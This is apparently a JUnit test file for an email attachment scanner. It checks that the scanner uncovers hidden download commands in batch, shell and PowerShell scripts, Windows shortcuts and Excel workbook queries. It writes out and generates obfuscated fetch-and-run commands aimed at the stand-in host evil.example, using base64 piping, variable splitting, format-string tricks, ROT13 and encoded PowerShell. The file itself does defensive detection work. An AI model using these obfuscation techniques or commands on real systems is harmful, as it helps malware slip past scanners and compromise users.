package org.bloomgate.content.mime;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.US_ASCII;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Random;
import java.util.Set;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.bloomgate.Rounds;
import org.bloomgate.core.key.Place;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/// The commands of attached scripts, shortcuts and queries.
class CommandsTest {
    private static final int ROUNDS = Rounds.of(2_000);

    private static ReadMessage attached(String name, byte[] content) {
        return ReadMessage.of(("Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n"
                        + "Content-Disposition: attachment; filename=\"" + name + "\"\r\n\r\n"
                        + Base64.getMimeEncoder().encodeToString(content))
                .getBytes(ISO_8859_1));
    }

    private static ReadMessage attached(String name, String content) {
        return attached(name, content.getBytes(ISO_8859_1));
    }

    private static String base64(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(ISO_8859_1));
    }

    /// A blank that ends a word but is not skipped after it would be read for ever.
    @ParameterizedTest
    @ValueSource(strings = {"bat", "sh", "ps1"})
    @Timeout(60)
    void scriptWithAnyCharacterBetweenWords_isReadToItsEnd(String ending) {
        for (char c = 0; c < 0x100; c++) {
            String script = "echo one two three four five six\n".repeat(4) + "echo a" + c + c + "b " + c + "\n";
            ReadMessage read = attached("a." + ending, script + "curl https://evil.example/x\n");
            assertTrue(read.holds("evil.example"), "" + (int) c);
        }
    }

    /// U+FFFF is also what the reader sees behind the end.
    @ParameterizedTest
    @ValueSource(strings = {"bat", "sh", "ps1"})
    void constantAfterAnyCharacter_isResolved(String ending) {
        String use = ending.equals("bat")
                ? "set a=evil.exa\ncurl https://%a%mple/x\n"
                : ending.equals("sh")
                        ? "a=evil.exa\ncurl https://${a}mple/x\n"
                        : "iwr ('https://evil.exa' + 'mple/x')\n";
        for (int c = 0xfff0; c <= 0xffff; c++) {
            String script = "\ufeff" + (char) c + "\n" + use;
            assertTrue(attached("a." + ending, script.getBytes(UTF_16LE)).holds("evil.example"), "" + c);
        }
    }

    /// One step of hiding a command in a batch file.
    private static String hideInBatch(String command, Random random) {
        int half = 1 + random.nextInt(command.length() - 1);
        String first = command.substring(0, half);
        String rest = command.substring(half);
        return switch (random.nextInt(4)) {
            case 0 -> "set a=" + first + "\r\nset b=" + rest + "\r\n%A%%b%\r\n";
            case 1 -> "set \"x=" + rest + first + "\"\r\n%x:~-" + first.length() + "%%x:~0," + rest.length() + "%\r\n";
            case 2 -> "set v=" + command.replace("t", "#~") + "\r\n!v:#~=t!\r\n";
            default -> command.replace("s", "^s") + "\r\n";
        };
    }

    /// One step of hiding a command in a script of a shell.
    private static String hideInShell(String command, Random random) {
        int half = 1 + random.nextInt(command.length() - 1);
        String first = command.substring(0, half);
        String rest = command.substring(half);
        return switch (random.nextInt(6)) {
            case 0 -> "a='" + first + "'\nb=\"" + rest + "\"\neval \"$a${b}\"\n";
            case 1 -> "echo " + base64(command) + " | base64 -d | sh\n";
            case 2 -> "c=$(echo '" + base64(command) + "' | base64 --decode)\nbash -c \"$c\"\n";
            case 3 -> "v='" + command.replace("t", "~~") + "'; eval ${v//~~/t}\n";
            case 4 -> "x='" + rest + first + "'\neval \"${x:" + rest.length() + "}${x:0:" + rest.length() + "}\"\n";
            default -> "eval '" + first + "'\"" + rest + "\"\n";
        };
    }

    /// One step of hiding a text in PowerShell: an expression with that value.
    private static String hideInPowerShell(String text, Random random) {
        int half = 1 + random.nextInt(text.length() - 1);
        String first = text.substring(0, half);
        String second = text.substring(half);
        char quote = random.nextBoolean() ? '"' : '\'';
        String blank = random.nextBoolean() ? " " : "";
        List<String> quoted = Stream.of("{1}-{0}", second, first, "~", "t", text.replace('t', '~'), "_")
                .map(part -> quote + part + quote)
                .toList();
        return switch (random.nextInt(7)) {
            case 0 -> quoted.get(0).replace("-", "") + blank + "-f" + blank + quoted.get(1) + "," + quoted.get(2);
            case 1 -> quoted.get(5) + blank + "-replace" + blank + quoted.get(3) + ", " + quoted.get(4);
            case 2 -> quoted.get(2) + blank + "+" + blank + quoted.get(1);
            case 3 -> "(" + quoted.get(2) + "," + quoted.get(1) + ") -join ''";
            case 4 -> "$(" + quoted.get(2) + ")" + " + " + quoted.get(1);
            case 5 -> "(" + quoted.get(0) + " -f " + quoted.get(1) + "," + quoted.get(2) + ") -replace '-',''";
            default -> quote + text.replace("h", random.nextBoolean() && quote == '"' ? "`h" : "h") + quote;
        };
    }

    @Test
    void constantsOfPowerShell_areResolvedOverStepsAndStatements() {
        Random random = new Random(11);
        for (int round = 0; round < ROUNDS; round++) {
            String url = "https://evil" + round + ".example/x";
            int half = 9 + random.nextInt(url.length() - 12);
            int kind = random.nextInt(4);
            String script = switch (kind) {
                case 0 -> "iex (irm (" + hideInPowerShell(url, random) + "))";
                case 1 -> "$u = " + hideInPowerShell(url, random) + "\niwr $u -OutFile x.exe";
                case 2 ->
                    "$Part=" + hideInPowerShell(url.substring(0, half), random) + "; $part += "
                            + hideInPowerShell(url.substring(half), random) + "\nirm \"$($part)\" | iex";
                default -> "& 'Invoke-RestMethod' -Uri (" + hideInPowerShell(url, random) + ")";
            };
            String name = kind == 0 && random.nextBoolean() ? "a.bat" : "a.ps1";
            String file = name.equals("a.ps1")
                    ? script
                    : "powershell -c \"" + script.replace('"', '\'').replace('\n', ';') + "\"";

            assertTrue(attached(name, file).holds(Place.SCRIPT_ATTACHMENT, "evil" + round + ".example"), file);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "$a = '{0} of {1}' -f $i, $n\nWrite-Host $a",
                "Get-ChildItem *.log | Where-Object { $_.Length -gt 1MB } | Remove-Item",
                "[CmdletBinding()]\nparam([string]$Path = 'C:\\logs')\n$x = $Path -replace '\\\\', '/'",
                "$token = 'QWxhZGRpbjpvcGVuc2VzYW1l1'\n$token | Invoke-RestMethod -Uri https://api.example.com/v1",
                "$json = '{\"a\": 1}' | ConvertFrom-Json\nif ($json.a -eq 1) { Write-Output ($json.a + 1) }"
            })
    void scriptsOfAdministrators_reachNoLimit(String script) {
        assertEquals(Set.of(), attached("a.ps1", script).limits());
    }

    @Test
    void assignmentsAndParentheses_areReadToTheirBounds() {
        String url = "irm ('{0}evil.example' -f 'https://')";
        assertEquals(
                Set.of(),
                attached("a.ps1", "$a = ".repeat(50_000) + "'x'\n" + url).limits());
        assertTrue(attached("a.ps1", "(".repeat(14) + url + ")".repeat(14)).holds("evil.example"));
        assertEquals(
                Set.of("nesting"),
                attached("a.ps1", "(".repeat(16) + url + ")".repeat(16)).limits());
    }

    @Test
    void commandHiddenByResolvableSteps_isFound() {
        Random random = new Random(5);
        for (int i = 0; i < ROUNDS; i++) {
            String host = "h" + Integer.toString(random.nextInt(1 << 20), 36) + ".evil.example";
            String batch = "@echo off\r\n" + hideInBatch("start https://" + host + "/x", random);
            assertTrue(attached("a.bat", batch).holds(Place.SCRIPT_ATTACHMENT, host), batch);
            String shell = "curl -s https://" + host + "/x";
            for (int steps = random.nextInt(3); steps >= 0; steps--) {
                shell = hideInShell(shell.strip(), random);
                if (shell.indexOf('\'') >= 0 && steps > 0) {
                    shell = "echo " + base64(shell) + " | base64 -d | sh";
                }
            }
            String script = "#!/bin/sh\n" + shell;
            assertTrue(attached("a.sh", script).holds(Place.SCRIPT_ATTACHMENT, host), script);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "echo 'phey uggcf://rivy.rknzcyr' | tr a-z n-za-m | sh",
                "echo /v8AAQIDBAUGBwgJCgsMDQ4P | base64 -d | sh",
                "eval \"$(echo U2FsdGVkX19zYWx0c2FsdA | openssl enc -d -aes-256-cbc -k x)\""
            })
    void constantThatIsRunAndNotResolved_isTheLimit(String script) {
        assertEquals(Set.of("scriptOpaque"), attached("a.sh", script).limits());
    }

    @ParameterizedTest
    @CsvSource({"setup.bat", "install.sh", "configure.sh", "Tools.psm1"})
    void honestScript_reachesNoLimit(String name) {
        String batch = """
            @echo off
            rem Setup of the example tools
            setlocal
            set DIR=%~dp0
            if not exist "%DIR%setup.msi" goto missing
            for /f %%a in ('ver') do set V=%%a
            set D=%date:~-4%
            curl -fsSL https://example.com/tools.msi -o "%TEMP%\\tools.msi" || powershell -c "iwr https://example.com/t"
            msiexec /i "%DIR%setup.msi" /qn
            echo No reader was found || cmd /c start "" "%DIR%readme_%D%.html"
            :missing
            echo Done! 100%% of the files
            """;
        String shell = """
            #!/bin/sh
            # Builds the example tools.
            set -e
            PREFIX=${PREFIX:-/usr/local}
            V=$(echo "v1.2.3" | sed 's/^v//')
            for f in *.c; do cc -c "$f" -o "${f%.c}.o"; done
            eval "$(ssh-agent -s)"
            curl -fsSL https://example.com/tools-$V.sh | sh -s -- --yes
            command -v wget > /dev/null || echo "wget is missing" || bash help.sh
            echo iVBORw0KGgo= | base64 -d > logo.png
            cat <<EOF | sh -c 'cat'
            hello
            EOF
            """;
        String configure = """
            #! /bin/sh
            as_nl='
            '
            export as_nl
            as_tr_sh="eval sed 'y%*+%pp%;s%[^_a-z0-9]%_%g'"
            as_me=`$as_basename -- "$0" || echo X/"$0" | sed '/^X/s///'`
            ac_var=`echo "ac_cv_func_$ac_func" | $as_tr_sh`
            eval ac_res=\\$$ac_var
            ac_script='s/^/x/'
            ac_url=https://example.com/bug
            eval "$ac_cv_path=\\"$ac_script\\""
            ${CONFIG_SHELL-/bin/sh} ./config.status --recheck || exit 1
            test -n "$CC" || { echo "no compiler" >&2; exit 1; }
            """;
        String module = """
            <# .SYNOPSIS Tools #>
            function Get-Thing {
              param([string]$Uri)
              # comment with 'quotes
              $r = Invoke-RestMethod -Uri "$Uri/v1"
              return $r.items -join ','
            }
            """;
        String content = Map.of(
                        "setup.bat", batch, "install.sh", shell, "configure.sh", configure, "Tools.psm1", module)
                .get(name);
        assertEquals(Set.of(), attached(name, Objects.requireNonNull(content)).limits());
    }

    @Test
    void pipeOverLineEndsAndGroups_isRead() {
        String coded = base64("curl https://evil.example/x");
        for (String script : List.of(
                "echo " + coded + " |\n base64 -d |&\n\n sh\n",
                "(echo " + coded + " | base64 -d) | sh\n",
                "{ echo " + coded + "; } | base64 -d | sh\n")) {
            assertTrue(attached("a.sh", script).holds(Place.SCRIPT_ATTACHMENT, "evil.example"), script);
        }
    }

    @Test
    void expansionOfVariables_isBounded() {
        String doubled = "a=" + "xy".repeat(50) + "\n" + "a=$a$a\n".repeat(30);
        assertTrue(attached("a.sh", doubled).limits().contains("scripts"));
    }

    @Test
    void depthOfSubstitutions_isBounded() {
        assertEquals(
                Set.of(),
                attached("a.sh", "echo " + "$(".repeat(14) + "x" + ")".repeat(14))
                        .limits());
        assertEquals(
                Set.of("nesting"),
                attached("a.sh", "echo " + "$(".repeat(16) + "x").limits());
    }

    private static byte[] shortcut(String arguments) {
        ByteArrayOutputStream file = new ByteArrayOutputStream();
        byte[] header = new byte[76];
        System.arraycopy("L\0\0\0\1\24\2\0".getBytes(ISO_8859_1), 0, header, 0, 8);
        header[20] = (byte) 0xa0;
        file.writeBytes(header);
        file.write(arguments.length() & 0xff);
        file.write(arguments.length() >> 8);
        file.writeBytes(arguments.getBytes(UTF_16LE));
        return file.toByteArray();
    }

    private static byte[] zip(String name, byte[] content) throws IOException {
        ByteArrayOutputStream file = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(file)) {
            zip.putNextEntry(new ZipEntry(name));
            zip.write(content);
        }
        return file.toByteArray();
    }

    @Test
    void commandOfAShortcut_isRead() throws IOException {
        String coded = Base64.getEncoder().encodeToString("iwr https://evil.example/x".getBytes(UTF_16LE));
        byte[] share = shortcut("/c start \\\\evil.example@SSL\\DavWWWRoot\\a.js");
        assertTrue(attached("a.lnk", share).holds(Place.SCRIPT_ATTACHMENT, "evil.example"));
        assertTrue(attached("a.zip", zip("a.lnk", share)).holds(Place.SCRIPT_ATTACHMENT, "evil.example"));
        byte[] encoded = shortcut("-w h & powershell -e " + coded);
        assertTrue(attached("a.lnk", encoded).holds(Place.SCRIPT_ATTACHMENT, "evil.example"));
        byte[] variables = shortcut("/c set a=https://ev&& set b=il.example/x&& call start %a%%b%");
        assertTrue(attached("a.lnk", variables).holds(Place.SCRIPT_ATTACHMENT, "evil.example"));
    }

    @Test
    void queriesOfAWorkbook_areRead() throws IOException {
        byte[] queries =
                zip("Formulas/Section1.m", "let a = Web.Contents(\"https://evil.example/x\") in a".getBytes(US_ASCII));
        byte[] mashup = new byte[8 + queries.length + 40];
        mashup[4] = (byte) queries.length;
        mashup[5] = (byte) (queries.length >> 8);
        System.arraycopy(queries, 0, mashup, 8, queries.length);
        String xml = "<?xml version=\"1.0\"?><DataMashup xmlns=\"http://schemas.microsoft.com/DataMashup\">"
                + Base64.getEncoder().encodeToString(mashup) + "</DataMashup>";
        ReadMessage read = attached("a.xlsx", zip("customXml/item1.xml", xml.getBytes(US_ASCII)));
        assertTrue(read.holds("evil.example"), () -> "" + read);
        assertEquals(Set.of(), read.limits());
    }
}
